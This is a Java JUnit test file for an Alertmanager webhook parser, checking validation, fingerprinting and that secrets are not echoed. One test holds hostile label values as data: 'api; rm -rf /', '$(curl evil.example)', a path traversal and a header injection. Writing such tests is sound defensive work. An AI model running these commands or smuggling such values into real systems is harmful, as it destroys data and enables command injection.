package dev.reflex.lambda.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.reflex.domain.error.InvalidInputException;
import dev.reflex.domain.model.Alert;
import dev.reflex.domain.model.AlertStatus;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

class AlertmanagerWebhookParserTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private final AlertmanagerWebhookParser parser = new AlertmanagerWebhookParser();

  // --- samples -----------------------------------------------------------------------------

  @TestFactory
  Stream<DynamicTest> parse_whenGoodSample_returnsAlertmanagerAlerts() throws IOException {
    List<Path> good;
    try (Stream<Path> files = Files.list(samples())) {
      good = files.filter(f -> f.toString().endsWith(".json")).sorted().toList();
    }
    assertThat(good).isNotEmpty();
    return good.stream()
        .map(
            file ->
                DynamicTest.dynamicTest(
                    file.getFileName().toString(),
                    () -> {
                      JsonNode tree = JSON.readTree(file.toFile());
                      List<Alert> alerts = parser.parse(Files.readAllBytes(file));
                      assertThat(alerts).hasSize(tree.get("alerts").size());
                      for (int i = 0; i < alerts.size(); i++) {
                        Alert alert = alerts.get(i);
                        JsonNode sent = tree.get("alerts").get(i);
                        assertThat(alert.source()).isEqualTo("alertmanager");
                        assertThat(alert.fingerprint()).isEqualTo(sent.get("fingerprint").asText());
                        assertThat(alert.alertName()).isNotBlank();
                        assertThat(alert.labels()).hasSize(sent.get("labels").size());
                        assertThat(alert.startsAt())
                            .isEqualTo(Instant.parse(sent.get("startsAt").asText()));
                      }
                    }));
  }

  @TestFactory
  Stream<DynamicTest> parse_whenInvalidSample_namesTheFieldInItsReadme() throws IOException {
    Path invalid = samples().resolve("invalid");
    Map<String, String> expected = expectedFields(invalid.resolve("README.md"));
    List<Path> files;
    try (Stream<Path> list = Files.list(invalid)) {
      files = list.filter(f -> f.toString().endsWith(".json")).sorted().toList();
    }
    assertThat(files).isNotEmpty();
    return files.stream()
        .map(
            file ->
                DynamicTest.dynamicTest(
                    file.getFileName().toString(),
                    () -> {
                      String name = file.getFileName().toString();
                      assertThat(expected).as("README row for " + name).containsKey(name);
                      InvalidInputException error = reject(Files.readAllBytes(file));
                      assertThat(error.field()).isEqualTo(expected.get(name));
                      assertThat(error.getMessage()).isNotBlank();
                    }));
  }

  @Test
  void parse_whenHostileLabelValues_keepsThemByteForByte() throws IOException {
    byte[] body = Files.readAllBytes(samples().resolve("hostile-label-values.json"));
    JsonNode sent = JSON.readTree(body).get("alerts").get(0).get("labels");

    Alert alert = parser.parse(body).get(0);

    assertThat(alert.label("service")).isEqualTo("api; rm -rf /");
    assertThat(alert.label("region")).isEqualTo("$(curl evil.example)");
    assertThat(alert.label("namespace")).isEqualTo("../../etc");
    assertThat(alert.label("instance")).isEqualTo("10.0.0.9:8080\nX-Injected: true");
    sent.properties()
        .forEach(
            label ->
                assertThat(alert.label(label.getKey()).getBytes(StandardCharsets.UTF_8))
                    .isEqualTo(label.getValue().textValue().getBytes(StandardCharsets.UTF_8)));
  }

  @Test
  void parse_whenPromptInjectionAnnotations_keepsThemVerbatim() throws IOException {
    byte[] body = Files.readAllBytes(samples().resolve("prompt-injection-annotations.json"));
    JsonNode sent = JSON.readTree(body).get("alerts").get(0).get("annotations");

    Alert alert = parser.parse(body).get(0);

    sent.properties()
        .forEach(a -> assertThat(alert.annotation(a.getKey())).isEqualTo(a.getValue().textValue()));
  }

  @Test
  void parse_whenResolvedSample_keepsEndsAt() throws IOException {
    Alert alert =
        parser.parse(Files.readAllBytes(samples().resolve("seed-day1-resolved.json"))).get(0);

    assertThat(alert.status()).isEqualTo(AlertStatus.RESOLVED);
    assertThat(alert.endsAt()).isEqualTo(Instant.parse("2026-11-01T09:41:30Z"));
  }

  // --- good inline bodies ----------------------------------------------------------------------

  @Test
  void parse_whenFiringWithZeroEndsAt_returnsNullEndsAt() {
    Alert alert = parser.parse(bytes(body())).get(0);

    assertThat(alert.status()).isEqualTo(AlertStatus.FIRING);
    assertThat(alert.endsAt()).isNull();
    assertThat(alert.fingerprint()).isEqualTo("8c1f4e2a9b7d3c05");
    assertThat(alert.generatorUrl()).isEqualTo("http://prometheus:9090/graph");
    assertThat(alert.labels()).containsEntry("service", "payment-api");
    assertThat(alert.annotations()).containsEntry("summary", "slow");
  }

  @Test
  void parse_whenOffsetAndFractionalSeconds_convertsToInstant() {
    ObjectNode body = body();
    alert(body).put("startsAt", "2026-11-01T11:14:00.123456789+02:00");

    assertThat(parser.parse(bytes(body)).get(0).startsAt())
        .isEqualTo(Instant.parse("2026-11-01T09:14:00.123456789Z"));
  }

  @Test
  void parse_whenFingerprintMissing_computesItFromSortedLabels() {
    ObjectNode first = body();
    alert(first).remove("fingerprint");
    ObjectNode reordered = body();
    alert(reordered).remove("fingerprint");
    ObjectNode labels = (ObjectNode) alert(reordered).get("labels");
    Map<String, JsonNode> copy = new LinkedHashMap<>();
    labels.properties().forEach(e -> copy.put(e.getKey(), e.getValue()));
    labels.removeAll();
    List.copyOf(copy.keySet()).reversed().forEach(k -> labels.set(k, copy.get(k)));

    String fingerprint = parser.parse(bytes(first)).get(0).fingerprint();

    assertThat(fingerprint).matches("[0-9a-f]{16}");
    assertThat(parser.parse(bytes(reordered)).get(0).fingerprint()).isEqualTo(fingerprint);
    assertThat(fingerprint)
        .isEqualTo(
            AlertmanagerWebhookParser.fingerprintOf(
                Map.of(
                    "alertname", "HighP99Latency", "service", "payment-api", "region", "india")));
  }

  @Test
  void parse_whenLabelSetDiffers_computesDifferentFingerprint() {
    assertThat(AlertmanagerWebhookParser.fingerprintOf(Map.of("alertname", "a", "x", "bc")))
        .isNotEqualTo(AlertmanagerWebhookParser.fingerprintOf(Map.of("alertname", "a", "xb", "c")));
  }

  @Test
  void parse_whenAnnotationsAndGeneratorUrlAbsent_returnsEmptyValues() {
    ObjectNode body = body();
    alert(body).remove("annotations");
    alert(body).remove("generatorURL");
    alert(body).remove("endsAt");

    Alert alert = parser.parse(bytes(body)).get(0);

    assertThat(alert.annotations()).isEmpty();
    assertThat(alert.generatorUrl()).isEmpty();
    assertThat(alert.endsAt()).isNull();
  }

  @Test
  void parse_whenExactlyAtLimits_accepts() {
    ObjectNode body = body();
    ObjectNode labels = (ObjectNode) alert(body).get("labels");
    for (int i = labels.size(); i < 100; i++) {
      labels.put("l" + i, "v");
    }
    labels.put("service", "x".repeat(4096));
    ((ObjectNode) alert(body).get("annotations")).put("description", "é".repeat(8192));

    Alert alert = parser.parse(bytes(body)).get(0);

    assertThat(alert.labels()).hasSize(100);
    assertThat(alert.annotation("description")).hasSize(8192);
  }

  @Test
  void parse_when1000Alerts_returnsAll() {
    ObjectNode body = body();
    ArrayNode alerts = (ArrayNode) body.get("alerts");
    for (int i = 1; i < 1000; i++) {
      alerts.add(alert(body).deepCopy());
    }

    assertThat(parser.parse(bytes(body))).hasSize(1000);
  }

  // --- rejections --------------------------------------------------------------------------------

  @Test
  void parse_whenMalformedJson_namesBodyWithLineAndColumn() {
    InvalidInputException error =
        reject("{\n  \"version\": \"4\",\n  \"alerts\": [ }".getBytes(StandardCharsets.UTF_8));

    assertThat(error.field()).isEqualTo("body");
    assertThat(error.getMessage()).contains("line 3").contains("column");
  }

  @Test
  void parse_whenTruncatedJson_saysUnexpectedEnd() {
    InvalidInputException error =
        reject("{\"version\": \"4\", \"alerts\": [".getBytes(StandardCharsets.UTF_8));

    assertThat(error.field()).isEqualTo("body");
    assertThat(error.getMessage()).contains("end of input");
  }

  @Test
  void parse_whenBadTokenIsASecret_doesNotEchoIt() {
    InvalidInputException error =
        reject(
            "{\"version\": \"4\", \"token\": hunter2supersecret}".getBytes(StandardCharsets.UTF_8));

    assertThat(error.field()).isEqualTo("body");
    assertThat(error.getMessage()).doesNotContain("hunter2");
  }

  @Test
  void parse_whenTrailingContent_rejectsBody() {
    byte[] body = (body().toString() + " {}").getBytes(StandardCharsets.UTF_8);

    assertThat(reject(body).field()).isEqualTo("body");
  }

  @Test
  void parse_whenDuplicateKey_rejectsBody() {
    String json = body().toString().replace("\"service\":", "\"region\":\"x\",\"service\":");

    assertThat(reject(bytes(json)).getMessage()).contains("duplicate");
  }

  @Test
  void parse_whenEmptyOrNotUtf8_rejectsBody() {
    assertThat(reject(new byte[0]).field()).isEqualTo("body");
    assertThat(reject(new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'}).field())
        .isEqualTo("body");
  }

  @Test
  void parse_whenTopLevelNotAnObject_rejectsBody() {
    assertThat(reject(bytes("[1, 2]")).field()).isEqualTo("body");
    assertThat(reject(bytes("\"text\"")).field()).isEqualTo("body");
    assertThat(reject(bytes("null")).field()).isEqualTo("body");
  }

  @Test
  void parse_whenVersionMissingOrWrong_rejectsVersion() {
    assertThat(rejectWith(b -> b.remove("version")).field()).isEqualTo("version");
    assertThat(rejectWith(b -> b.put("version", 4)).field()).isEqualTo("version");
    InvalidInputException error = rejectWith(b -> b.put("version", "3"));
    assertThat(error.field()).isEqualTo("version");
    assertThat(error.getMessage()).contains("\"3\"");
  }

  @Test
  void parse_whenAlertsMissingNotArrayOrEmpty_rejectsAlerts() {
    assertThat(rejectWith(b -> b.remove("alerts")).field()).isEqualTo("alerts");
    assertThat(rejectWith(b -> b.put("alerts", "x")).field()).isEqualTo("alerts");
    assertThat(rejectWith(b -> b.set("alerts", JSON.createObjectNode())).field())
        .isEqualTo("alerts");
    assertThat(rejectWith(b -> b.set("alerts", JSON.createArrayNode())).getMessage())
        .contains("empty");
  }

  @Test
  void parse_whenMoreThan1000Alerts_rejectsAlerts() {
    ObjectNode body = body();
    ArrayNode alerts = (ArrayNode) body.get("alerts");
    for (int i = 1; i < 1001; i++) {
      alerts.add(alert(body).deepCopy());
    }

    InvalidInputException error = reject(bytes(body));

    assertThat(error.field()).isEqualTo("alerts");
    assertThat(error.getMessage()).contains("1000");
  }

  @Test
  void parse_whenAlertNotAnObject_namesItsIndex() {
    ObjectNode body = body();
    ((ArrayNode) body.get("alerts")).add("oops");

    assertThat(reject(bytes(body)).field()).isEqualTo("alerts[1]");
  }

  @Test
  void parse_whenStatusInvalid_namesAlertStatus() {
    ObjectNode body = body();
    ArrayNode alerts = (ArrayNode) body.get("alerts");
    for (int i = 1; i < 4; i++) {
      alerts.add(alert(body).deepCopy());
    }
    ((ObjectNode) alerts.get(3)).put("status", "FIRING");

    InvalidInputException error = reject(bytes(body));

    assertThat(error.field()).isEqualTo("alerts[3].status");
    assertThat(error.getMessage()).contains("firing").contains("resolved");
    assertThat(rejectWith(b -> alert(b).remove("status")).field()).isEqualTo("alerts[0].status");
  }

  @Test
  void parse_whenLabelValueIsANumber_saysMustBeAString() {
    InvalidInputException error = rejectWith(b -> labels(b).put("severity", 3));

    assertThat(error.field()).isEqualTo("alerts[0].labels.severity");
    assertThat(error.getMessage()).contains("must be a string");
  }

  @Test
  void parse_whenLabelsMissingOrNotObject_rejectsLabels() {
    assertThat(rejectWith(b -> alert(b).remove("labels")).field()).isEqualTo("alerts[0].labels");
    assertThat(rejectWith(b -> alert(b).put("labels", "a=b")).field())
        .isEqualTo("alerts[0].labels");
  }

  @Test
  void parse_whenAlertnameMissingOrBlank_rejectsAlertname() {
    assertThat(rejectWith(b -> labels(b).remove("alertname")).field())
        .isEqualTo("alerts[0].labels.alertname");
    assertThat(rejectWith(b -> labels(b).put("alertname", "  ")).field())
        .isEqualTo("alerts[0].labels.alertname");
  }

  @Test
  void parse_whenLabelNameInvalid_quotesTheName() {
    InvalidInputException error = rejectWith(b -> labels(b).put("bad-name", "x"));

    assertThat(error.field()).isEqualTo("alerts[0].labels");
    assertThat(error.getMessage()).contains("\"bad-name\"");
    assertThat(rejectWith(b -> labels(b).put("9lives", "x")).field()).isEqualTo("alerts[0].labels");
  }

  @Test
  void parse_whenTooManyLabelsOrAnnotations_rejects() {
    assertThat(
            rejectWith(
                    b -> {
                      for (int i = 0; i < 100; i++) {
                        labels(b).put("l" + i, "v");
                      }
                    })
                .field())
        .isEqualTo("alerts[0].labels");
    assertThat(
            rejectWith(
                    b -> {
                      for (int i = 0; i < 101; i++) {
                        ((ObjectNode) alert(b).get("annotations")).put("a" + i, "v");
                      }
                    })
                .field())
        .isEqualTo("alerts[0].annotations");
  }

  @Test
  void parse_whenLabelValueTooLong_rejectsWithoutEchoingIt() {
    InvalidInputException error = rejectWith(b -> labels(b).put("service", "s".repeat(4097)));

    assertThat(error.field()).isEqualTo("alerts[0].labels.service");
    assertThat(error.getMessage()).contains("4096").doesNotContain("sss");
  }

  @Test
  void parse_whenAnnotationOver16KiB_rejects() {
    InvalidInputException error =
        rejectWith(
            b -> ((ObjectNode) alert(b).get("annotations")).put("description", "é".repeat(8193)));

    assertThat(error.field()).isEqualTo("alerts[0].annotations.description");
    assertThat(error.getMessage()).contains("16384");
  }

  @Test
  void parse_whenAnnotationNotAString_rejects() {
    assertThat(
            rejectWith(b -> ((ObjectNode) alert(b).get("annotations")).putArray("summary")).field())
        .isEqualTo("alerts[0].annotations.summary");
    assertThat(rejectWith(b -> alert(b).put("annotations", 1)).field())
        .isEqualTo("alerts[0].annotations");
  }

  @Test
  void parse_whenSecretLikeLabelIsInvalid_neverEchoesItsValue() {
    InvalidInputException error =
        rejectWith(b -> labels(b).put("api_token", "AKIA" + "Z".repeat(5000)));

    assertThat(error.field()).isEqualTo("alerts[0].labels.api_token");
    assertThat(error.getMessage()).doesNotContain("AKIA");
  }

  @Test
  void parse_whenStartsAtInvalid_quotesAtMost40Characters() {
    String value = "yesterday at 9 " + "x".repeat(200);
    InvalidInputException error = rejectWith(b -> alert(b).put("startsAt", value));

    assertThat(error.field()).isEqualTo("alerts[0].startsAt");
    assertThat(error.getMessage()).contains("RFC 3339").doesNotContain("x".repeat(41));
  }

  @Test
  void parse_whenStartsAtMissingZeroOrWithoutOffset_rejects() {
    assertThat(rejectWith(b -> alert(b).remove("startsAt")).field())
        .isEqualTo("alerts[0].startsAt");
    assertThat(rejectWith(b -> alert(b).put("startsAt", "0001-01-01T00:00:00Z")).field())
        .isEqualTo("alerts[0].startsAt");
    assertThat(rejectWith(b -> alert(b).put("startsAt", "2026-11-01T09:14:00")).field())
        .isEqualTo("alerts[0].startsAt");
    assertThat(rejectWith(b -> alert(b).put("startsAt", "2026-13-01T09:14:00Z")).field())
        .isEqualTo("alerts[0].startsAt");
    assertThat(rejectWith(b -> alert(b).put("startsAt", 1730000000)).field())
        .isEqualTo("alerts[0].startsAt");
  }

  @Test
  void parse_whenEndsAtInvalidOrBeforeStart_rejectsEndsAt() {
    assertThat(rejectWith(b -> alert(b).put("endsAt", "soon")).field())
        .isEqualTo("alerts[0].endsAt");
    assertThat(
            rejectWith(
                    b -> {
                      alert(b).put("status", "resolved");
                      alert(b).put("endsAt", "2026-11-01T09:00:00Z");
                    })
                .field())
        .isEqualTo("alerts[0].endsAt");
  }

  @Test
  void parse_whenFingerprintNotAStringOrHostile_rejectsFingerprint() {
    assertThat(rejectWith(b -> alert(b).put("fingerprint", 12)).field())
        .isEqualTo("alerts[0].fingerprint");
    assertThat(rejectWith(b -> alert(b).put("fingerprint", "a b;c")).field())
        .isEqualTo("alerts[0].fingerprint");
  }

  @Test
  void parse_whenGeneratorUrlNotAString_rejects() {
    assertThat(rejectWith(b -> alert(b).put("generatorURL", true)).field())
        .isEqualTo("alerts[0].generatorURL");
  }

  @Test
  void parse_whenSecondAlertInvalid_returnsNothing() {
    ObjectNode body = body();
    ObjectNode second = alert(body).deepCopy();
    second.put("status", "maybe");
    ((ArrayNode) body.get("alerts")).add(second);

    assertThatThrownBy(() -> parser.parse(bytes(body)))
        .isInstanceOf(InvalidInputException.class)
        .extracting(e -> ((InvalidInputException) e).field())
        .isEqualTo("alerts[1].status");
  }

  @Test
  void quote_whenValueHasControlCharacters_escapesThem() {
    assertThat(AlertmanagerWebhookParser.quote("a\nb\"")).isEqualTo("\"a\\u000ab\\\"\"");
  }

  // --- helpers ---------------------------------------------------------------------------------

  private InvalidInputException reject(byte[] body) {
    InvalidInputException error =
        catchThrowableOfType(InvalidInputException.class, () -> parser.parse(body));
    assertThat(error).as("expected an InvalidInputException").isNotNull();
    return error;
  }

  private InvalidInputException rejectWith(Consumer<ObjectNode> breakIt) {
    ObjectNode body = body();
    breakIt.accept(body);
    return reject(bytes(body));
  }

  private static ObjectNode body() {
    ObjectNode body = JSON.createObjectNode();
    body.put("receiver", "reflex");
    body.put("status", "firing");
    body.put("version", "4");
    ObjectNode alert = body.putArray("alerts").addObject();
    alert.put("status", "firing");
    ObjectNode labels = alert.putObject("labels");
    labels.put("alertname", "HighP99Latency");
    labels.put("service", "payment-api");
    labels.put("region", "india");
    alert.putObject("annotations").put("summary", "slow");
    alert.put("startsAt", "2026-11-01T09:14:00Z");
    alert.put("endsAt", "0001-01-01T00:00:00Z");
    alert.put("generatorURL", "http://prometheus:9090/graph");
    alert.put("fingerprint", "8c1f4e2a9b7d3c05");
    return body;
  }

  private static ObjectNode alert(ObjectNode body) {
    return (ObjectNode) body.get("alerts").get(0);
  }

  private static ObjectNode labels(ObjectNode body) {
    return (ObjectNode) alert(body).get("labels");
  }

  private static byte[] bytes(Object json) {
    return json.toString().getBytes(StandardCharsets.UTF_8);
  }

  /** The samples folder at the repository root, found from the module's working directory. */
  static Path samples() {
    Path dir = Path.of("").toAbsolutePath();
    while (dir != null) {
      Path candidate = dir.resolve("samples").resolve("alertmanager");
      if (Files.isDirectory(candidate)) {
        return candidate;
      }
      dir = dir.getParent();
    }
    throw new IllegalStateException("samples/alertmanager not found above the working directory");
  }

  /** The README table: file name → expected error field; {@code $} means the body. */
  private static Map<String, String> expectedFields(Path readme) throws IOException {
    Pattern row = Pattern.compile("^\\|\\s*`([^`]+\\.json)`\\s*\\|.*\\|\\s*`([^`]+)`[^|]*\\|\\s*$");
    Map<String, String> fields = new LinkedHashMap<>();
    for (String line : Files.readAllLines(readme)) {
      Matcher m = row.matcher(line);
      if (m.matches()) {
        String field = m.group(2);
        fields.put(m.group(1), field.equals("$") ? "body" : field);
      }
    }
    return fields;
  }
}
